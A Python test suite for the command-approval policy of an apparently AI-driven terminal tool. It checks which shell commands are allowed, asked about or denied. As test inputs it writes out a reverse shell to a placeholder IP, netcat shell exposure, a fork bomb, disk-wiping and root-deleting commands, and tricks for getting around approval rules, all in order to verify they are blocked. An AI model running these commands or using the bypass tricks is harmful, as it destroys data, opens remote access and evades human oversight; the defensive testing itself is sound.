"""Policy, rules and leases."""

from __future__ import annotations

import pytest

from kogniterm.approval import (
    Circumstances,
    RuleSet,
    Unattended,
    classify,
    judge,
    load_rules,
)
from kogniterm.approval.analysis import shared_findings
from kogniterm.errors import SettingsError
from kogniterm.settings.user_files import toml_values
from kogniterm.types import APPROVAL_MODES, ActionRequest, approval_mode
from tests.approval.corpus import WORKSPACE, commands

AUTO = Circumstances(mode="auto", folder=WORKSPACE)
BOXED = Circumstances(mode="auto", sandboxed=True, folder=WORKSPACE)
MANUAL = Circumstances(folder=WORKSPACE)


def _kind(command: str, circumstances: Circumstances, rules: RuleSet | None = None) -> str:
    report = classify(command, cwd=WORKSPACE)
    return judge(report, rules=rules, circumstances=circumstances).kind


@pytest.mark.parametrize(
    ("command", "manual", "auto", "boxed"),
    [
        ("ls", "ask", "allow", "allow"), ("touch x", "ask", "allow", "allow"),
        ("make", "ask", "ask", "allow"), ("curl http://x", "ask", "ask", "allow"),
        ("git push -f", "ask", "deny", "deny"), ("rm -rf /", "deny", "deny", "deny"),
        (":(){ :|:& };:", "deny", "deny", "deny"), ("ls\u200b", "ask", "deny", "deny"),
        ("mkfs.ext4 /dev/sda", "deny", "deny", "deny"), ("rm -rf ~", "deny", "deny", "deny"),
    ],
)  # fmt: skip
def test_the_modes(command: str, manual: str, auto: str, boxed: str) -> None:
    assert _kind(command, MANUAL) == manual
    assert _kind(command, AUTO) == auto
    assert _kind(command, BOXED) == boxed


@pytest.mark.parametrize(
    ("command", "accept_edits", "plan", "at_prompt"),
    [
        ("ls", "ask", "allow", "allow"), ("touch x", "ask", "deny", "allow"),
        ("cat .env", "ask", "deny", "ask"), ("make", "ask", "deny", "ask"),
        ("git push -f", "ask", "deny", "ask"), ("rm -rf /", "deny", "deny", "deny"),
    ],
)  # fmt: skip
def test_the_other_modes(command: str, accept_edits: str, plan: str, at_prompt: str) -> None:
    assert _kind(command, MANUAL._replace(mode="accept-edits")) == accept_edits
    assert _kind(command, MANUAL._replace(mode="plan")) == plan
    assert _kind(command, AUTO._replace(at_prompt=True)) == at_prompt


def test_plan_mode_takes_no_rule_for_an_answer() -> None:
    everything = load_rules(toml_values("u", '[[rule]]\ndecision = "allow"\narguments = ".*"\n'))
    plan = Circumstances(
        mode="plan", sandboxed=True, unsandboxed_ok=True, at_prompt=True, folder=WORKSPACE
    )
    for kind in ("write", "asked", "dangerous"):
        assert {_kind(command, plan, everything) for command in commands(kind)} == {"deny"}


@pytest.mark.parametrize("mode", ["ask", "manual", "accept-edits", "auto", "plan"])
def test_a_rule_holds_in_the_mode_that_it_names(mode: str) -> None:
    text = f'[[rule]]\ndecision = "deny"\nprogram = "ls"\nmode = "{mode}"\n'
    rules = load_rules(toml_values("u", text))
    denied = {at for at in APPROVAL_MODES if _kind("ls", Circumstances(at), rules) == "deny"}
    assert denied == {"manual" if mode == "ask" else mode}


@pytest.mark.parametrize("name", ["", "yolo", "AUTO", "auto "])
def test_an_unknown_mode_reads_as_manual_and_is_no_mode_of_a_rule(name: str) -> None:
    assert approval_mode(name) == "manual"
    with pytest.raises(SettingsError, match="ask, accept-edits, auto or plan"):
        load_rules(
            toml_values("u", f'[[rule]]\ndecision = "ask"\nprogram = "x"\nmode = "{name}"\n')
        )


_LIMITS = {
    shared_findings.CALLS_ITSELF: "f(){ f; }; f",
    shared_findings.WRITES_DEVICE: "cat x > /dev/sda",
    shared_findings.DELETES_DEVICE: "rm /dev/sda",
    shared_findings.DESTROYS_DISK: "mkfs.ext4 /dev/sda",
    shared_findings.DELETES_ROOT: "rm -r --no-preserve-root x",
    shared_findings.REDIRECTS_SHELL: "bash -i >& /dev/tcp/192.0.2.1/9 0>&1",
    shared_findings.EXPOSES_SHELL: "bash | nc host 1",
    shared_findings.EXPOSES_PROGRAM: "nc -e /bin/sh host 1",
    shared_findings.ENDS_ALL_PROCESSES: "kill -9 -1",
    shared_findings.DELETES_MANY: "rm -rf /",
    shared_findings.MANY_PERMISSIONS: "chmod -R 777 /",
    shared_findings.MOVES_MANY: "mv ~ /tmp/x",
    shared_findings.MIRRORS: "rsync -a --delete empty/ /",
}


def test_every_finding_that_a_hard_limit_denies_comes_from_the_analysis() -> None:
    assert set(_LIMITS) == shared_findings.ALWAYS_DENIED | shared_findings.DENIED_FOR_ROOTS


@pytest.mark.parametrize(("template", "command"), _LIMITS.items())
def test_a_hard_limit_denies_its_finding(template: str, command: str) -> None:
    report = classify(command, cwd=WORKSPACE)
    assert template in {reason.template for reason in report.reasons}
    verdict = judge(report, circumstances=MANUAL)
    assert verdict.kind == "deny"
    assert verdict.reasons[0].template in _LIMITS


@pytest.mark.parametrize(
    ("template", "command"),
    [(shared_findings.WRITES_FILE, "echo x > a"), (shared_findings.DELETES_FILE, "rm a")],
)
def test_the_findings_that_only_name_a_file_come_from_the_analysis(
    template: str, command: str
) -> None:
    report = classify(command, cwd=WORKSPACE)
    assert template in {reason.template for reason in report.reasons}
    assert template in shared_findings.NAMES_A_FILE


def test_permissions_of_a_device_are_dangerous_but_under_no_hard_limit() -> None:
    report = classify("chmod 666 /dev/sda", cwd=WORKSPACE)
    assert str(report.reasons[0]) == "Changes the permissions of the device /dev/sda."
    assert judge(report, circumstances=MANUAL).kind == "ask"
    assert judge(report, circumstances=AUTO).kind == "deny"


def test_switches() -> None:
    assert _kind("ls", Circumstances(safe_unasked=True)) == "allow"
    assert _kind("make", Circumstances(mode="auto", unsandboxed_ok=True)) == "allow"


@pytest.mark.parametrize(
    ("command", "in_sandbox", "without"),
    [
        ("ls", "allow", "allow"),
        ("touch x", "allow", "ask"),
        ("mkdir -p a/b && cp c a/b", "allow", "ask"),
        ("mv a.txt b.txt", "allow", "ask"),
        ("mv a.txt ../b.txt", "ask", "ask"),
        ("mv a.txt b.txt && rm b.txt", "ask", "ask"),
        ('for f in *.a; do mv "$f" "${f%.a}.b"; done', "allow", "ask"),
        ('for f in *\' \'*; do mv -- "$f" "${f// /_}"; done', "allow", "ask"),
        ('for f in *.a; do mv "$f" "/srv/$f"; done', "ask", "ask"),
        ('for f in *.a; do mv "$f" "../$f"; done', "ask", "ask"),
        ('for f in *.a; do rm "${f%.a}.b"; done', "ask", "ask"),
        ('mv a.txt "$HOME/b.txt"', "ask", "ask"),
        ("git add -A && git commit -m 'One'", "allow", "ask"),
        ("tar -xzf a.tar.gz", "allow", "ask"),
        ("python3 -c 'print(1)'", "allow", "ask"),
        ("./report.sh", "allow", "ask"),
        ("./report.sh && rm a.txt", "ask", "ask"),
        ("python3 a.py > ../b.txt", "ask", "ask"),
        ("sudo ./report.sh", "ask", "ask"),
        ("curl https://example.com", "ask", "ask"),
    ],
)
def test_a_small_model_does_what_undo_takes_back_and_only_in_a_sandbox(
    command: str, in_sandbox: str, without: str
) -> None:
    small = Circumstances(
        mode="auto", sandboxed=True, small_model=True, undoable=True, folder=WORKSPACE
    )
    assert _kind(command, small) == in_sandbox
    unkept = "allow" if command == "ls" else "ask"
    assert _kind(command, small._replace(undoable=False)) == unkept
    outside = small._replace(sandboxed=False)
    assert _kind(command, outside) == without
    assert _kind(command, outside._replace(unsandboxed_ok=True)) == without
    assert _kind("touch x", small._replace(mode="manual")) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "find . -name '*.o' -empty -delete",
        "rm a.txt",
        "find . -name '*.o' -exec rm {} +",
        "ls *.o | xargs rm",
        "rmdir empty",
        "git clean -f",
    ],
)
def test_a_small_model_never_deletes_unasked(command: str) -> None:
    small = Circumstances(
        mode="auto",
        sandboxed=True,
        unsandboxed_ok=True,
        small_model=True,
        undoable=True,
        folder=WORKSPACE,
    )
    assert _kind(command, small) in ("ask", "deny")
    assert _kind(command, small._replace(mode="manual", safe_unasked=True)) == "ask"


def test_auto_mode_never_runs_what_is_dangerous() -> None:
    everything = load_rules(toml_values("u", '[[rule]]\ndecision = "allow"\narguments = ".*"\n'))
    wide = Circumstances(mode="auto", sandboxed=True, unsandboxed_ok=True, folder=WORKSPACE)
    kinds = {c: _kind(c, wide, everything) for c in commands("dangerous")}
    assert set(kinds.values()) == {"deny"}


RULES = """
[[rule]]
decision = "allow"
program = "npm"
arguments = "test|run lint"
reason = "the test suite"
match = ["npm test", "npm run lint"]
not_match = ["npm publish", "npm test && rm x"]

[[rule]]
decision = "ask"
path = "db/*"

[[rule]]
decision = "deny"
program = ["terraform", "kubectl"]
mode = "auto"
reason = "not from here"
"""


def test_rules_deny_before_ask_before_allow() -> None:
    rules = load_rules(toml_values("policy.toml", RULES))
    assert _kind("npm test", MANUAL, rules) == "allow"
    assert _kind("npm publish", MANUAL, rules) == "ask"
    assert _kind("npm test; ls", MANUAL, rules) == "allow"
    assert _kind("npm test; make", MANUAL, rules) == "ask"
    assert _kind("cat db/x.sql", AUTO, rules) == "ask"
    assert _kind("kubectl get pods", BOXED, rules) == "deny"
    assert _kind("kubectl get pods", MANUAL, rules) == "ask"
    verdict = judge(classify("npm test"), rules=rules)
    assert [entry.matched for entry in verdict.trace] == [False, True, False, False]
    assert verdict.trace[1].origin == "policy.toml:2"


@pytest.mark.parametrize(
    "command",
    [
        "./npm test", "/tmp/npm test", "PATH=. npm test", "export PATH=.; npm test",
        "env PATH=. npm test", "npm test > ~/.notes", "npm test > ../x", "npm test ${x@P}",
        "npm test; " * 200 + "./x", "npm() { ./x; }; npm test", "npm test | sh", "sudo npm test",
    ],
)  # fmt: skip
def test_an_allowed_program_is_no_other_and_nothing_more(command: str) -> None:
    rules = load_rules(toml_values("u", '[[rule]]\ndecision = "allow"\nprogram = "npm"\n'))
    assert _kind("/usr/bin/npm test 2>&1 | tail -5", MANUAL, rules) == "allow"
    assert _kind(command, MANUAL, rules) != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "git push", "git -C sub push origin", "git -c a.b=c push", "sudo git --no-pager push",
        "g=push; git $g", 'git p""ush', "env git push", "/bin/git push", "echo push | xargs git",
        "cat secret/x", "cat ./secret//x", "cd secret; cat x", "cat s*/x", "cat */x", "cat $d/x",
    ],
)  # fmt: skip
def test_a_denial_is_not_walked_round(command: str) -> None:
    rules = load_rules(
        toml_values(
            "u",
            '[[rule]]\ndecision = "deny"\nprogram = "git"\narguments = "push.*"\n'
            '[[rule]]\ndecision = "deny"\npath = "secret/*"\n',
        )
    )
    assert _kind("git log --grep push; cat *.txt; ls .", BOXED, rules) == "allow"
    assert _kind(command, BOXED, rules) == "deny"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[[rule]]\ndecision = ['allow']\nprogram = 'x'", "line 2: decision must be"),
        ("[[rule]]\ndecision = 'allow'\nprogramm = 'x'", "line 3: unknown key 'programm'"),
        (
            "[[rule]]\ndecision = 'allow'\nprogram = 'x'\nside_by_side = 'yes'",
            "line 4: side_by_side must",
        ),
        (
            "[[rule]]\ndecision = 'ask'\nprogram = 'x'\nside_by_side = true",
            "line 4: side_by_side needs",
        ),
        (
            "[[rule]]\ndecision = 'allow'\npath = 'x'\nside_by_side = true",
            "line 4: side_by_side needs",
        ),
        ("rules = 1", "unknown key 'rules'"), ("[[rule]]\ndecision = 'yes'\nprogram='x'", "line 2"),
        ("[[rule", "not valid TOML"),
        ("[[rule]]\ndecision='deny'", "needs at least one of: program"),
        ("[[rule]]\ndecision='deny'\narguments='('", "regular expression"),
        ("[[rule]]\ndecision='deny'\nprogram='x'\nmatch=['y']", "line 4: the rule does not match"),
        ("[[rule]]\ndecision='deny'\nprogram='x'\nnot_match=['x']", "matches its not_match"),
        ("[[rule]]\ndecision='deny'\nprogram=3", "list of strings"),
        ("[[rule]]\ndecision='deny'\nprogram='x'\nmode='yolo'", "mode must be"),
    ],
)  # fmt: skip
def test_wrong_rules_are_errors_with_a_line(text: str, said: str) -> None:
    with pytest.raises(SettingsError) as caught:
        load_rules(toml_values("p.toml", text))
    assert said in str(caught.value)


def test_a_project_may_only_tighten() -> None:
    with pytest.raises(SettingsError, match="cannot use allow"):
        load_rules(toml_values("p", "[[rule]]\ndecision='allow'\nprogram='x'"), tighten_only=True)


async def test_an_unattended_approver_rejects() -> None:
    request = ActionRequest("1", "c", "execute_command", "make")
    report = classify("make")
    decision = await Unattended().decide(request, report, judge(report))
    assert decision.kind == "reject"
    assert decision.command == "make"
    assert "No user is available" in decision.reason
